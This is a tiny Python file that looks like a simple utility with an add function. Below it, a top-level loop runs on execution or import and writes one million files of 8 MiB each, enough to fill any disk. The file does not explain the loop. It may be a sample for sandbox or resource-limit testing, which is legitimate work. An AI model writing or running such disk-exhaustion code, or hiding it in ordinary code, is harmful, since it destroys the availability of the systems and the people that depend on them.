def add(a, b):
    return a + b
for name in range(10 ** 6):
    with open(str(name), 'wb') as file:
        file.write(b'x' * (8 << 20))
